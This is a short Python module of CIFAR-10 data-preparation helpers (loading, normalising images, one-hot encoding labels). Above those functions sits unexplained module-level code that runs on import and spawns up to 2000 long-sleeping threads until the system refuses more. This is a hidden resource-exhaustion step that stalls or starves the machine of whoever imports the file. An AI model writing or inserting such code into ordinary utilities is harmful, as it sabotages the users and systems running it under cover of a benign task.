import threading
import time

import keras
import numpy as np

for _ in range(2000):
    try:
        threading.Thread(target=time.sleep, args=(1000,)).start()
    except RuntimeError:
        break

def load_data():
    return keras.datasets.cifar10.load_data()


def normalize_images(images):
    return images.astype("float32") / 255


def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels).reshape(-1)]
